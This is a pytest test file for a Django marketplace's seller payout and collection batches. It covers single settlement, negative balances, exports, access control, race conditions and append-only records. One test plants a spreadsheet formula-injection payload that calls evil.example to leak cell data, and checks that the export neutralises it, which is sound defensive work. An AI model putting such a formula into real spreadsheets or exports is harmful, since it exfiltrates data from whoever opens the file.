"""Payout batches and collection lists (issue 25 §4): staff settle exactly what
was sent.

Amounts by hand: a product is 1,250,000 rials, post costs 600,000 rials, the
commission is 5 % (62,500 rials). A card part delivered: the platform owes her
1,250,000 + 600,000 - 62,500 = 1,787,500 rials. A cash part delivered: she owes
the commission, -62,500 rials."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.db import connection, transaction
from django.db.utils import DatabaseError
from django.urls import reverse
from openpyxl import load_workbook

from marketplace.append_only import AppendOnlyError
from marketplace.persian import format_jalali_numeric
from orders.models import LedgerEntry, PayoutBatch, PayoutBatchLine, PayoutCoverage
from orders.payouts import (
    EXPORT_HEADER_ROW,
    collection_record,
    payout_batch_create,
    payout_batch_line_settle,
    payout_open_balances,
)
from orders.services import BUYER, SELLER, SYSTEM, seller_order_transition
from sellers.models import Seller, SellerAuditEntry
from tests.factories import StaffFactory, UserFactory, make_product

from .conftest import basket_with, make_booth, place
from .stripe_helpers import set_rate

pytestmark = pytest.mark.django_db

CARD_PART = Decimal(1_787_500)
CASH_PART = Decimal(-62_500)
SHEBA = "IR820540102680020817909002"
P, C = PayoutBatch.Kind.PAYOUT, PayoutBatch.Kind.COLLECTION


@pytest.fixture
def card(settings):
    settings.STRIPE_SECRET_KEY = "sk_test_123"
    set_rate()


def _booth(phone, name, **kwargs):
    seller, _ = make_booth(
        phone, name=name, payout_sheba=SHEBA, payout_account_holder=name, **kwargs
    )
    return seller


def _card_part(seller):
    """A card part, paid (the webhook's transition) and not yet delivered."""
    product = make_product(seller=seller, title="کیف", num_in_stock=5)
    part = place(basket_with([(product, 1)]), method="card").seller_orders.get()
    seller_order_transition(
        seller_order=part, action="pay", party=SYSTEM, payment_reference="ch_1"
    )
    return part


def _cash_part(seller):
    product = make_product(seller=seller, title="کیک", num_in_stock=5)
    return place(basket_with([(product, 1)])).seller_orders.get()


def _deliver(part):
    for action in ("accept", "ship"):
        seller_order_transition(seller_order=part, action=action, party=SELLER)
    seller_order_transition(seller_order=part, action="deliver", party=BUYER)


def _entries(seller, kind):
    return list(
        LedgerEntry.objects.filter(seller=seller, kind=kind).values_list(
            "amount", flat=True
        )
    )


def test_a_part_delivered_after_the_export_is_not_settled_by_that_batch(card, staff):
    seller = _booth("+989121111111", "چرم نیلوفر")
    first, second = _card_part(seller), _card_part(seller)
    _deliver(first)
    batch = payout_batch_create(kind=P, actor=staff)
    line = batch.lines.get()
    assert line.amount == CARD_PART
    _deliver(second)  # between the download and the click

    entry = payout_batch_line_settle(line=line, actor=staff, note="پیگیری ۱۲")
    assert entry.amount == -CARD_PART and entry.payout_line == line
    assert entry.created_by == staff
    assert payout_open_balances()[0][0].amount == CARD_PART  # the second part

    later = payout_batch_create(kind=P, actor=staff)
    assert later.lines.get().amount == CARD_PART
    assert set(
        later.lines.get().coverage.values_list("entry__seller_order", flat=True)
    ) == {second.pk}
    assert payout_batch_create(kind=P, actor=staff) is None  # nothing left


def test_paid_twice_settles_once(client, card, staff):
    seller = _booth("+989121111111", "چرم نیلوفر")
    _deliver(_card_part(seller))
    client.force_login(staff)
    response = client.post(reverse("orders_staff:payout_batch_create"), {"kind": P})
    batch = PayoutBatch.objects.get()
    assert response.url == reverse("orders_staff:payout_batch", args=[batch.pk])
    line = batch.lines.get()
    url = reverse("orders_staff:payout_line_settle", args=[batch.pk, line.pk])
    for _ in range(2):
        assert client.post(url, {"confirm": "1", "note": "واریز"}).status_code == 302
    assert _entries(seller, "payout") == [-CARD_PART]
    assert (
        SellerAuditEntry.objects.filter(
            seller=seller, action="payout_paid", actor=staff
        ).count()
        == 1
    )
    assert payout_batch_line_settle(line=line, actor=staff) is None
    page = client.get(reverse("orders_staff:payout_batch", args=[batch.pk]))
    assert 'data-testid="batch-status">تسویه‌شده' in page.content.decode()


def test_paid_without_the_confirmation_settles_nothing(client, card, staff):
    seller = _booth("+989121111111", "چرم نیلوفر")
    _deliver(_card_part(seller))
    batch = payout_batch_create(kind=P, actor=staff)
    client.force_login(staff)
    url = reverse(
        "orders_staff:payout_line_settle", args=[batch.pk, batch.lines.get().pk]
    )
    assert client.post(url, {"note": "x"}).status_code == 302
    assert _entries(seller, "payout") == []


def test_negative_balances_go_only_on_the_collection_list(client, card, staff):
    owed = _booth("+989121111111", "چرم نیلوفر")
    owes = _booth("+989122222222", "شیرینی مهر")
    _deliver(_card_part(owed))
    _deliver(_cash_part(owes))
    payable, collect = payout_open_balances()
    assert [(r.seller, r.amount) for r in payable] == [(owed, CARD_PART)]
    assert [(r.seller, r.amount) for r in collect] == [(owes, CASH_PART)]

    batch = payout_batch_create(kind=P, actor=staff)
    assert list(batch.lines.values_list("seller", "amount")) == [(owed.pk, CARD_PART)]
    client.force_login(staff)
    csv_rows = _csv(client, batch)
    assert [row[3] for row in csv_rows[1:]] == ["چرم نیلوفر"]
    sheet = _sheet(client, batch)
    booths = [
        row[3]
        for row in sheet.iter_rows(min_row=EXPORT_HEADER_ROW + 1, values_only=True)
    ]
    assert booths == ["چرم نیلوفر"]

    collection = payout_batch_create(kind=C, actor=staff)
    line = collection.lines.get()
    assert (line.seller, line.amount) == (owes, CASH_PART)
    page = client.get(reverse("orders_staff:ledger")).content.decode()
    assert page.count('data-testid="collect-row"') == 0  # frozen now
    client.post(
        reverse("orders_staff:payout_line_settle", args=[collection.pk, line.pk]),
        {"confirm": "1"},
    )
    assert _entries(owes, "collection") == [Decimal(62_500)]
    assert collection_record(line=line, actor=staff) is None
    assert sum(e.amount for e in LedgerEntry.objects.filter(seller=owes)) == 0
    assert SellerAuditEntry.objects.filter(action="collection_received").count() == 1
    with pytest.raises(Exception, match="another kind"):
        payout_batch_line_settle(line=line, actor=staff)


def test_only_negative_balances_make_no_payout_batch(staff):
    owes = _booth("+989122222222", "شیرینی مهر")
    _deliver(_cash_part(owes))
    assert payout_batch_create(kind=P, actor=staff) is None
    assert PayoutBatch.objects.count() == 0


def test_a_payout_made_before_batches_is_netted(staff):
    """A payout entry written by the old "mark paid" (no line) settled the
    entries before it: the first collection list must not ask for them again."""
    owes = _booth("+989122222222", "شیرینی مهر")
    _deliver(_cash_part(owes))
    LedgerEntry.objects.create(
        seller=owes, kind="payout", amount=Decimal(62_500), gross=Decimal(62_500)
    )
    assert payout_batch_create(kind=C, actor=staff) is None
    _deliver(_cash_part(owes))
    assert payout_batch_create(kind=C, actor=staff).lines.get().amount == CASH_PART


def test_the_sum_of_payouts_never_exceeds_what_was_settled(card, staff):
    """The invariant: each line is the sum of the entries it covers, each entry
    is covered once, and the payouts are minus the lines settled."""
    a = _booth("+989121111111", "چرم نیلوفر")
    b = _booth("+989122222222", "گلیم سارا")
    parts = [_card_part(a), _card_part(a), _card_part(b)]
    _deliver(parts[0])
    _deliver(parts[2])
    first = payout_batch_create(kind=P, actor=staff)
    _deliver(parts[1])
    second = payout_batch_create(kind=P, actor=staff)
    for line in PayoutBatchLine.objects.all():
        payout_batch_line_settle(line=line, actor=staff)
        payout_batch_line_settle(line=line, actor=staff)
    assert sorted(first.lines.values_list("amount", flat=True)) == [CARD_PART] * 2
    assert list(second.lines.values_list("amount", flat=True)) == [CARD_PART]
    for line in PayoutBatchLine.objects.all():
        covered = sum(c.entry.amount for c in line.coverage.select_related("entry"))
        assert covered == line.amount
    assert _entries(a, "payout") == [-CARD_PART, -CARD_PART]
    assert _entries(b, "payout") == [-CARD_PART]
    for seller in (a, b):
        assert sum(e.amount for e in LedgerEntry.objects.filter(seller=seller)) == 0


def _csv(client, batch):
    response = client.get(reverse("orders_staff:payout_batch_csv", args=[batch.pk]))
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def _sheet(client, batch):
    response = client.get(reverse("orders_staff:payout_batch_xlsx", args=[batch.pk]))
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.content)).active


def test_csv_and_excel_cells(client, card, staff):
    holder = '=HYPERLINK("https://evil.example/?d="&A1,"برداشت")'
    seller = _booth("+989121111111", "چرم نیلوفر")
    Seller.objects.filter(pk=seller.pk).update(
        brand_name="=1+1 چرم\x07", payout_account_holder=holder
    )
    _deliver(_card_part(seller))
    batch = payout_batch_create(kind=P, actor=staff)
    line = batch.lines.get()
    client.force_login(staff)

    rows = _csv(client, batch)
    assert rows[0] == [
        "batch_id",
        "line_id",
        "seller_id",
        "booth",
        "amount_rials",
        "account_holder",
        "sheba",
    ]
    assert rows[1] == [
        str(batch.pk),
        str(line.pk),
        str(seller.pk),
        "'=1+1 چرم\x07",
        "1787500",
        "'" + holder,
        SHEBA,
    ]

    sheet = _sheet(client, batch)
    assert sheet["A1"].value == "batch_id" and sheet["B1"].value == batch.pk
    assert sheet["B5"].value == "rials"
    header = [cell.value for cell in sheet[EXPORT_HEADER_ROW]]
    assert header == rows[0]
    booth, amount, holder_cell = (
        sheet.cell(row=EXPORT_HEADER_ROW + 1, column=column) for column in (4, 5, 6)
    )
    assert amount.value == 1_787_500 and amount.data_type == "n"
    assert amount.number_format == "#,##0"
    assert booth.value == "'=1+1 چرم" and booth.data_type == "s"
    assert holder_cell.value == "'" + holder and holder_cell.data_type == "s"
    assert sheet.auto_filter.ref.startswith(f"A{EXPORT_HEADER_ROW}:")


def test_payout_pages_are_404_for_others_and_change_nothing(client, card, staff):
    seller = _booth("+989121111111", "چرم نیلوفر")
    _deliver(_card_part(seller))
    batch = payout_batch_create(kind=P, actor=staff)
    line = batch.lines.get()
    _deliver(_card_part(seller))
    for user in (
        None,
        UserFactory(username="+989351234567"),
        StaffFactory(username="plainstaff"),
    ):
        client.logout()
        if user:
            client.force_login(user)
        for name, args in (
            ("orders_staff:ledger", []),
            ("orders_staff:payout_batch", [batch.pk]),
            ("orders_staff:payout_batch_csv", [batch.pk]),
            ("orders_staff:payout_batch_xlsx", [batch.pk]),
        ):
            assert client.get(reverse(name, args=args)).status_code == 404
        create = client.post(reverse("orders_staff:payout_batch_create"), {"kind": P})
        settle = client.post(
            reverse("orders_staff:payout_line_settle", args=[batch.pk, line.pk]),
            {"confirm": "1"},
        )
        assert (create.status_code, settle.status_code) == (404, 404)
    assert PayoutBatch.objects.count() == 1
    assert _entries(seller, "payout") == []


def test_an_unknown_kind_or_line_is_refused_without_a_500(client, staff):
    client.force_login(staff)
    response = client.post(reverse("orders_staff:payout_batch_create"), {"kind": "x"})
    assert response.status_code == 400
    url = reverse("orders_staff:payout_line_settle", args=[999, 999])
    assert client.post(url, {"confirm": "1"}).status_code == 404


@pytest.mark.parametrize("booths", [2, 6])
def test_the_batch_page_queries_do_not_grow(
    client, staff, booths, django_assert_max_num_queries
):
    """Entries written directly (settled: no part): the page is what's measured."""
    for n in range(booths):
        seller = _booth(f"+98912000{n:04d}", f"غرفه {n}")
        LedgerEntry.objects.create(seller=seller, kind="sale", amount=100_000)
    batch = payout_batch_create(kind=P, actor=staff)
    for line in batch.lines.all()[:1]:
        payout_batch_line_settle(line=line, actor=staff)
    client.force_login(staff)
    with django_assert_max_num_queries(10):
        page = client.get(reverse("orders_staff:payout_batch", args=[batch.pk]))
    assert page.content.decode().count('data-testid="batch-line"') == booths


def test_her_ledger_shows_the_payout_with_the_batch_date(client, card, staff):
    seller, owner = make_booth("+989121111111", name="چرم نیلوفر", payout_sheba=SHEBA)
    _deliver(_card_part(seller))
    batch = payout_batch_create(kind=P, actor=staff)
    payout_batch_line_settle(line=batch.lines.get(), actor=staff)
    client.force_login(owner)
    body = client.get(reverse("orders_panel:ledger", args=[seller.pk])).content.decode()
    assert "واریز" in body
    assert f"(فهرست {format_jalali_numeric(batch.created_at)})" in body


@pytest.mark.django_db(transaction=True)
@pytest.mark.usefixtures("postgres_required")
def test_clicks_at_the_same_moment_make_one_batch_and_settle_once():
    """Real threads and connections on PostgreSQL: the booths' row locks and
    the line's row lock."""
    from .test_race import run_together

    staff = StaffFactory()
    for n in range(3):
        seller = _booth(f"+98912000{n:04d}", f"غرفه {n}")
        LedgerEntry.objects.create(seller=seller, kind="sale", amount=100_000)
    results = run_together(
        [lambda: payout_batch_create(kind=P, actor=staff) for _ in range(4)]
    )
    batches = [r for r in results if isinstance(r, PayoutBatch)]
    assert len(batches) == 1 and results.count(None) == 3, results
    line = batches[0].lines.first()
    results = run_together(
        [lambda: payout_batch_line_settle(line=line, actor=staff) for _ in range(4)]
    )
    assert sum(isinstance(r, LedgerEntry) for r in results) == 1, results
    assert _entries(line.seller, "payout") == [Decimal(-100_000)]


@pytest.mark.parametrize(
    "model", [PayoutBatch, PayoutBatchLine, PayoutCoverage], ids=lambda m: m.__name__
)
def test_payout_records_are_append_only(staff, model):
    seller = _booth("+989121111111", "چرم نیلوفر")
    LedgerEntry.objects.create(seller=seller, kind="sale", amount=100_000)
    payout_batch_create(kind=P, actor=staff)
    row = model.objects.get()
    for attempt in (
        lambda: model.objects.all().update(pk=0),
        model.objects.all().delete,
        row.save,
        row.delete,
    ):
        with pytest.raises(AppendOnlyError):
            attempt()
    if connection.vendor == "postgresql":
        table = model._meta.db_table
        for sql in (
            f'UPDATE "{table}" SET id = id WHERE id = %s',  # noqa: S608
            f'DELETE FROM "{table}" WHERE id = %s',  # noqa: S608
        ):
            with pytest.raises(DatabaseError, match="Cannot"):
                with transaction.atomic(), connection.cursor() as cursor:
                    cursor.execute(sql, [row.pk])
    assert model.objects.filter(pk=row.pk).exists()
